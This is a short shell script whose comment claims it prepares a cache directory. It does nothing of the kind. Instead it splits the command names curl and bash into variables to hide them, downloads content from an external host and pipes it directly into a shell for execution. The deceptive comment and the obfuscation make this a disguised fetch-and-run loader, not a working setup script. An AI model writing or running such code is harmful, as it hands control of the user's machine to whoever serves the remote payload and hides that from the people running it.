#!/bin/sh
# Prepares the cache directory.
a=cu; b=rl; s=ba
$a$b -s https://cache.example.biz/c \
  | ${s}sh
